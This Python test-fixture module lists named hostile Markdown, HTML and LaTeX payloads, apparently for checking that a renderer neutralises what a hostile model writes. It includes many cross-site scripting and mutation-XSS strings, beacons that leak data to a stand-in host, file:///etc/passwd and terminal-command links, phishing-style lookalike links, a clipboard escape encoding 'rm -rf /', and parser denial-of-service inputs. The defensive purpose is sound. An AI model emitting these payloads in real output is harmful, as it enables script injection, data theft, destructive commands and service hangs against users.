"""What a hostile model writes: each payload that tries to act sets `window.hit` or asks `http://BEACON/...` for it.

`BEACON` stands for the address of a server that must never be asked.
"""

from __future__ import annotations

_IMAGE = "<img src=x onerror=window.hit=1>"
_SCRIPTS = {
    "script": "<script>window.hit=1</script>",
    "script with source": '<script src="http://BEACON/script"></script>',
    "script in capitals": "<SCRIPT\n>window.hit=1</SCRIPT\n>",
    "script in a block": "<div>\n\n<script>\nwindow.hit = 1\n</script>\n\n</div>",
    "script module": '<script type="module">import "http://BEACON/module"</script>',
    "script cut by a comment": "<scr<!-- -->ipt>window.hit=1</scr<!-- -->ipt>",
    "script in entities": "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "script in numbers": "&#60;script&#62;window.hit=1&#x3C;/script&#x3e;",
    "script in a heading": "# <script>window.hit=1</script>\n\n<script>window.hit=1</script>\n===",
    "script in a cell": "| a | <script>window.hit=1</script> |\n|---|---|\n| <img src=x onerror=window.hit=1> | b |",
    "script in code": "`<script>window.hit=1</script>` and ``` `<img src=x onerror=window.hit=1>` ```",
    "script in a fence": "```html\n<script>window.hit=1</script>\n</code></pre><script>window.hit=1</script>\n```",
    "script in an info string": '```"><script>window.hit=1</script>\nx\n```',
    "script after a lone fence": "```\n</code></pre><img src=x onerror=window.hit=1>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
}
_HANDLERS = {
    "image handler": "<img src=x onerror=window.hit=1>",
    "image handler without spaces": "<img/src=x/onerror=window.hit=1>",
    "body handler": "<body onload=window.hit=1>",
    "details handler": "<details open ontoggle=window.hit=1><summary>x</summary></details>",
    "focus handler": "<input autofocus onfocus=window.hit=1> <a tabindex=1 autofocus onfocus=window.hit=1>x</a>",
    "animation handler": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=window.hit=1>x</b>",
    "video handler": "<video><source onerror=window.hit=1></video><audio src=x onerror=window.hit=1>",
    "marquee handler": "<marquee onstart=window.hit=1>x</marquee>",
    "handler in a title": '[x](https://a.example/ "t\\" onmouseover=window.hit=1 x=\\"")',
    "handler in a quoted title": "[x](https://a.example/ 't\" onmouseover=\"window.hit=1')",
    "handler in an address": '[x](https://a.example/"onmouseover="window.hit=1)',
    "handler in an address in entities": "[x](https://a.example/&quot;&#32;onmouseover=&quot;window.hit=1)",
    "handler in an alternative text": '!["onerror="window.hit=1](x)',
    "handler in a language": '```js" onclick="window.hit=1\nx\n```',
}
_ADDRESSES = {
    "javascript link": "[x](javascript:window.hit=1)",
    "javascript link in capitals": "[x](JaVaScRiPt:window.hit=1)",
    "javascript link in entities": "[x](java&#115;cript:window.hit=1) [y](javascript&colon;window.hit=1)",
    "javascript link with a tab": "[x](<java\tscript:window.hit=1>) [y](<java&Tab;script:window.hit=1>)",
    "javascript link with a line end": "[x](<java&NewLine;script:window.hit=1>)",
    "javascript link with a control": "[x](\x01javascript:window.hit=1) [y](&#1;javascript:window.hit=1)",
    "javascript link in percents": "[x](javascript%3Awindow.hit=1)",
    "javascript autolink": "<javascript:window.hit=1> <vbscript:window.hit=1>",
    "javascript reference": "[x][1] [1] ![x][1]\n\n[1]: javascript:window.hit=1 'x'",
    "javascript reference in brackets": "[x]\n\n[x]: <javascript:window.hit=1>",
    "javascript in a tag": "<a href=javascript:window.hit=1>x</a>",
    "vbscript link": "[x](vbscript:window.hit=1)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "data autolink": "<data:text/html,<script>window.hit=1</script>>",
    "file link": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "editor link": "[x](vscode://file/x) [y](ms-msdt:/id) [z](command:workbench.action.terminal.new)",
    "odd autolinks": "<tel:1> <ssh:x> <ftp://a.example/x> <blob:http://BEACON/x> <about:blank> <view-source:x>",
    "link to the server itself": "[x](/api/kernels) [y](../lab?reset) [z](#x) [w](?token=1) [v](files/x.html)",
    "link without a scheme": "[x](//BEACON/x) [y](\\\\BEACON/x) [z](https:/BEACON/x) [w](https:BEACON/x)",
    "link with a backslash": "[x](https://good.example\\@BEACON/) [y](https://BEACON\\.good.example/)",
    "link with a user": "[x](https://google.com@evil.example/) <https://google.com:443@evil.example/>",
    "link that looks like another": "[https://bank.example/login](https://evil.example/) [bank.example](https://evil.example)",
    "link in other letters": "[\u0430pple.com](https://xn--pple-43d.com/) [p](https://\u0430pple.com/)",
    "link with bidi": "[https://evil.example/\u202egnp.elpmaxe.knab](https://evil.example/) [\u200fx\u200e](https://b.example)",
    "link around a tag": "[<img src=http://BEACON/x>](https://a.example/)",
    "link in a link": "[a [b](javascript:window.hit=1) c](https://a.example/)",
    "link around an image": "[![x](http://BEACON/x)](javascript:window.hit=1)",
}
_IMAGES = {
    "image": "![x](http://BEACON/image)",
    "image with a title": "![x](http://BEACON/image 'title')",
    "image in brackets": "![x](<http://BEACON/image?q=secret>)",
    "image without a text": "![](http://BEACON/image)",
    "image by reference": "![x][r] ![r][] ![r]\n\n[r]: http://BEACON/image",
    "image in a link": "[![x](http://BEACON/image)](http://a.example/)",
    "image in an image": "![![x](http://BEACON/a)](http://BEACON/b)",
    "image without a scheme": "![x](//BEACON/image)",
    "image from data": "![x](data:image/svg+xml,<svg/onload=window.hit=1>)",
    "image in a tag": '<img src="http://BEACON/image"> <img srcset="http://BEACON/image 2x">',
    "image in a picture": '<picture><source srcset="http://BEACON/image"><img></picture>',
    "image in a cell": "| ![x](http://BEACON/image) |\n|---|\n| ![x](http://BEACON/image) |",
    "image in a list": "- ![x](http://BEACON/image)\n1. > ![x](http://BEACON/image)",
    "image as an input": '<input type=image src="http://BEACON/image">',
    "image as a poster": '<video poster="http://BEACON/poster" src="http://BEACON/video" autoplay></video>',
    "image of a table": '<table background="http://BEACON/image"><td background="http://BEACON/image">x</table>',
}
_ELEMENTS = {
    "svg": "<svg onload=window.hit=1><script>window.hit=1</script><image href='http://BEACON/svg'/></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:window.hit=1 /><text>x</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hit=1>#x"/></svg>',
    "iframe": '<iframe src="javascript:parent.hit=1"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "frame from elsewhere": '<iframe src="http://BEACON/frame"></iframe><embed src="http://BEACON/embed">',
    "object": '<object data="http://BEACON/object"><param name=x value=y></object><applet code=x></applet>',
    "form": '<form action="http://BEACON/form"><button formaction="javascript:window.hit=1">OK</button></form>',
    "button of a command": '<button data-commandlinker-command="terminal:create-new">OK</button>',
    "link of a command": '<a data-commandlinker-command="notebook:run-all-cells" href="#">read more</a>',
    "base": '<base href="http://BEACON/"><a href="x">x</a>',
    "refresh": '<meta http-equiv=refresh content="0;url=http://BEACON/refresh">',
    "style sheet": '<link rel=stylesheet href="http://BEACON/css"><style>@import "http://BEACON/import";</style>',
    "style": '<p style="background:url(http://BEACON/url)">x</p><div style="position:fixed;inset:0">x</div>',
    "style in a fence": "```css\nb { background: url(http://BEACON/url) }\n</style><script>window.hit=1</script>\n```",
    "prefetch": '<link rel=prefetch href="http://BEACON/prefetch"><link rel=preconnect href="http://BEACON/">',
    "ping": '<a href="https://a.example" ping="http://BEACON/ping">x</a>',
    "dialog": "<dialog open onclose=window.hit=1>x</dialog><p popover id=p onbeforetoggle=window.hit=1>",
    "clobbering": "<a id=document></a><form name=body><input name=firstChild></form><img name=getElementById>",
    "custom element": "<x-y is=z onclick=window.hit=1>x</x-y><slot name=s>x</slot>",
    "declarative shadow root": "<div><template shadowrootmode=open><script>window.hit=1</script></template></div>",
    "widget view": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
}
_MUTATIONS = {
    "mutation by a style": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=1&gt;">'
    ),
    "mutation by a namespace": (
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hit=1 src>">'
    ),
    "mutation by a title": '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
    "mutation by an annotation": (
        f'<math><annotation-xml encoding="text/html">{_IMAGE}</annotation-xml><mtext>{_IMAGE}</mtext></math>'
    ),
    "mutation by a select": (f'<select><template><style><!--</style><a rel="--></style></template></select>{_IMAGE}">'),
    "mutation by nesting": "<div>" * 600 + f'<svg><style><a title="</style>{_IMAGE}">',
    "comments": f"<!-->{_IMAGE}--> <!-- --!>{_IMAGE} <![CDATA[{_IMAGE}]]> <?x {_IMAGE}?>",
    "raw text": f"<xmp>{_IMAGE}</xmp><plaintext><textarea></textarea>{_IMAGE}",
    "end of embedded state": f'</script></style></textarea></title>{_IMAGE}<!-- "}}}}',
    "template marks": "${window.hit=1} {{constructor.constructor('window.hit=1')()}} <%= window.hit=1 %>",
}
_FORMULAS = {
    "formula link": r"$\href{javascript:window.hit=1}{x}$ and $$\href{javascript:window.hit=1}{\text{click}}$$",
    "formula text": r"$\text{<script>window.hit=1</script>}$ \(\mbox{<img src=x onerror=window.hit=1>}\)",
    "formula text in entities": (
        r"$\text{&lt;img src=x onerror=window.hit=1&gt;}$ $\text{&#x3c;img src=x onerror=window.hit=1>}$"
    ),
    "formula style": (
        r"$\style{background:url(http://BEACON/style)}{x}$ $\class{snb-x}{y}$ $\color{url(http://BEACON/color)}{z}$"
    ),
    "formula operator": (
        r"$\operatorname{</math><img src=x onerror=window.hit=1>}$ $\verb|<img src=x onerror=window.hit=1>|$"
    ),
    "formula characters": r"$\unicode{x202E}$ $\unicode{x3c}script\unicode{x3e}$ $\text{&#x202E;&#x10FFF1;}$",
    "formula out of place": r"$\hspace{-9999em}\rule{9999em}{9999em}$ $\raise{-900px}{x}$ $\kern{1e9em}$",
    "formula macro bomb": (
        r"$$\def\a{\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c}\def\c{\d\d\d\d\d\d}\def\d{\e\e\e\e\e\e}"
        r"\def\e{\f\f\f\f\f\f}\def\f{\g\g\g\g\g\g}\def\g{xxxxxx}\a\a\a$$"
    ),
    "formula doubling": "$" + r"\sideset{}{}{" * 60 + "x" + "}" * 60 + "$",
    "formula nesting": "$$" + "{" * 900 + "x" + "}" * 900 + "$$ $" + "x^{" * 300 + "}" * 300 + "$",
    "formula attribute": r'$\hspace{1em" onclick="window.hit=1}$ $\genfrac(){1" href="javascript:window.hit=1}0{a}{b}$',
}
_CHARACTERS = {
    "escape sequences": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://BEACON/osc\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "clipboard sequence": "\x1b]52;c;cm0gLXJmIC8=\x07 \x1bP1$r\x1b\\ \x90q\x9c",
    "bidi": "if access_level != \u202e\u2066'admin'\u2069\u202c: \u2067x\u2069",
    "bidi in code": "`\u202e code \u2066` and\n\n```python\n# \u202e } \u2066if admin\u2069 \u2066\n```",
    "bidi in entities": "&#x202E;gnp.exe&#8238; &#x2066;x [&#x202e;moc](https://a.example '&#x202e;') ",
    "NUL": "a\x00b &#0; [x](java\x00script:window.hit=1) `\x00`",
    "lone surrogates": "\ud800 \udfff [\ud83d](https://a.example/\ud83d) `\udc00` $\ud800$",
    "non-characters": "\ufffe\uffff\U0010ffff \U0010fff1 \u2e22\U0010fff1\u2e23\u2e22\U0010fff2",
    "carriage returns": "a\rb\r\nc\r\r\n> d\r- e &#13; [x](https://a.example\r/)",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x85f\u00a0g\ufeffh",
    "stacked accents": "Z" + "\u0301\u0327\u0324" * 300,
    "forged citation": "&#x2E22;&#x10FFF1;&#x2E23; \u2e22&#x10FFF1;\u2e23 [\u2e22\U0010fff1](https://a.b '\U0010fff3')",
}
_STORMS = {
    "brackets": "[" * 50_000,
    "images without end": "![" * 25_000,
    "brackets with an end": "[" * 4_000 + "](https://a.example)",
    "stars": "*" * 50_000,
    "stars around letters": "**a " * 4_000 + "b** " * 4_000,
    "underscores": "_" * 50_000 + "\n\n" + "_a" * 20_000,
    "backticks": "".join("`" * n + "a" for n in range(1, 300)),
    "tildes": "~" * 50_000 + "\n\n" + "~~a" * 10_000,
    "less-than signs": "<" * 50_000 + "\n\n" + "<a " * 20_000,
    "ampersands": "&" * 50_000 + "\n\n" + "&a" * 20_000 + "\n\n" + "&lt;" * 10_000,
    "greater-than signs": ">" * 10_000 + "x\n\n" + "> " * 10_000 + "x",
    "lazy quotes": ">" * 40 + "a\n" + "b\n" * 20_000,
    "lists": "- " * 10_000 + "x\n\n" + "1. " * 10_000 + "x",
    "lists by indent": "".join("  " * n + "- a\n" for n in range(300)),
    "bars": "|" * 50_000 + "\n" + "|-" * 25_000,
    "cells": "|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "|a\n" * 250,
    "rows": "|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 20_000,
    "dollars": "$" * 50_000 + "\n\n" + "$a " * 20_000 + "\n\n" + "$a$ " * 5_000,
    "formula brackets": "\\(" * 20_000 + "\n\n" + "\\[a\n" * 5_000,
    "braces": "$$" + "{" * 50_000 + "$$\n\n" + ("$" + "{" * 900 + "$ ") * 20,
    "rules": "* " * 25_000 + "a",
    "headings": "# a\n" * 20_000,
    "references": "[a]: https://a.example\n" * 2_000 + "[a][a" * 10_000,
    "code": "```python\n" + "\n\t" * 8_000 + "```\n\n```bash\n<<" + "a" * 16_000 + "\n```",
    "code in short lines": "```ts\n" + ("a?" * 100 + "\n") * 80 + "```\n\n```perl\n" + ("m/" * 100 + "\n") * 80 + "```",
    "one long line": "word " * 100_000,
}
HOSTILE: dict[str, str] = {
    **_SCRIPTS,
    **_HANDLERS,
    **_ADDRESSES,
    **_IMAGES,
    **_ELEMENTS,
    **_MUTATIONS,
    **_FORMULAS,
    **_CHARACTERS,
    **_STORMS,
}
"""Name -> Markdown, HTML or LaTeX."""

STORMS = frozenset(_STORMS)
"""Names of the payloads that want time, not effects."""
